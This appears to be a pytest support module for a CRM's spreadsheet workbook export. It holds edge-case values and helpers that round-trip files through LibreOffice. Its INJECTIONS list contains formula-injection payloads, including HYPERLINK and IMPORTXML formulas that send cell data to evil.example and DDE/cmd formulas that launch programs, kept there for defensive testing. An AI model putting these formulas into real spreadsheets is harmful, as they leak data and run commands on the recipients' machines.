"""The team's workbook as tests make and read it."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from creator_crm.domain.fields import Description, Value
from creator_crm.domain.records import CATALOGUE
from creator_crm.exchange.workbook.layout import Origin
from creator_crm.exchange.workbook.lists import Referred
from creator_crm.exchange.workbook.names import Names
from creator_crm.exchange.workbook.readme import About
from creator_crm.exchange.workbook.rows import Column
from creator_crm.exchange.workbook.write import Book, Sheet

INJECTIONS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1", "-1+1",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@ana", "+44 20 7946 0958", "+49-170-123", "\t=1+1", "\r=1+1",
    "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "''=1+1", "1;=1+1", '"=1+1', ",=1+1", "==1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "%0A=1+1", '=DDE("cmd";"/C calc";"x")',
)  # fmt: skip
# What spreadsheets are known to bend: section by section digits, dates, logic, signs, blanks.
# As Excel spells signs; LibreOffice 7.4 loses a layer of most of them.
SPELLED = (
    "_x000D_", "_x005F_x0041_", "_x005f_x0041_", "_x005F_x005F_x0041_", "_x005F_x005F_x005F_x0041_",
    "x_x0041_y_x005F_x0042_z", "_x0041_x0042_", "_x005F_x005F_",
)  # fmt: skip
AWKWARD = (
    "007", "0049170123", "00123", "1.50", "1,5", "12345678901234567890", "7300712345678901234567", "1E05",
    "1e5", "6.28E+12", "0x1F", "1_000", "1 000", "١٢٣", "½", "3/4", "1-2", "2026-11-22", "22.11.2026",
    "11/22/26", "Mar 5", "12:30", "24:00", "1900-02-29", "TRUE", "false", "yes", "NULL", "None", "#N/A",
    "#REF!", "nan", "inf", "-", "--", "'quoted", "''", '"a" "b"', "a;b,c|d", "a\\b", "<b>&amp;</b>", "]]>",
    "{a: [1]}", "550e8400-e29b-41d4-a716-446655440000", "👩🏽\u200d🚀🏳\ufe0f\u200d🌈", "e\u0301", "é",
    "שלום abc", "李小龍", "a\u200bb", "a\u00a0b", "two\nlines", "one\n\nthree", "a  b", "50%",
    "$9.99", *SPELLED,
)  # fmt: skip
soffice = shutil.which("soffice")
with_libreoffice = pytest.mark.skipif(soffice is None, reason="LibreOffice is not installed")


def saved_by_libreoffice(path: Path, ending: str = "xlsx") -> Path:
    """The file as LibreOffice saves it after opening it."""
    return all_saved_by_libreoffice([path], ending)[0]


def all_saved_by_libreoffice(paths: Sequence[Path], ending: str = "xlsx") -> list[Path]:
    """The files of one folder as LibreOffice saves them after opening them, by one start of it."""
    assert soffice
    folder, home = paths[0].parent / f"saved as {ending}", paths[0].parent / "libreoffice"
    command = [soffice, f"-env:UserInstallation={home.as_uri()}", "--headless", "--convert-to", ending]
    subprocess.run(
        [*command, "--outdir", str(folder), *map(str, paths)], check=True, capture_output=True, timeout=300
    )
    return [folder / f"{path.stem}.{ending}" for path in paths]


def cells_of(path: Path, title: str) -> list[dict[str, Any]]:
    """The rows of a sheet as openpyxl's cells by header."""
    sheet = load_workbook(path)[title]
    headers = [cell.value for cell in sheet[1]]
    return [dict(zip(headers, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def values_of(path: Path, title: str) -> list[dict[str, Any]]:
    """The rows of a sheet as values by header."""
    return [{header: cell.value for header, cell in row.items()} for row in cells_of(path, title)]


def one_sheet(
    rows: Sequence[Mapping[str, Value]], record: str = "creator", names: Mapping[str, Names] | None = None
) -> Book:
    """A workbook of one sheet with the visible fields that the rows name, references by uid."""
    description: Description[Any] = CATALOGUE[record]
    used = {name for row in rows for name in row}
    fields = [f for f in description.fields if f.name in used or f.required]
    columns = tuple(Column(f, f.label, f.stored) for f in fields)
    uids = [f"u{number}" for number in range(1, len(rows) + 1)]
    page = [uids, *([row.get(f.name, f.empty) for row in rows] for f in fields)]
    sheet = Sheet(description, columns, len(rows), iter([page] if rows else []))
    referred = {record: Referred(of, len(of)) for record, of in (names or {}).items()}
    origin = Origin(
        export="e1", workspace="w1", copy="c1", seen={"c1": 7}, schema=4, program="0", whole=False,
        redacted=False, sheets=(sheet.plan,),
    )  # fmt: skip
    return Book(origin, About("Brand", "22 November 2026", ()), (sheet,), referred, (("creator", "t1"),))
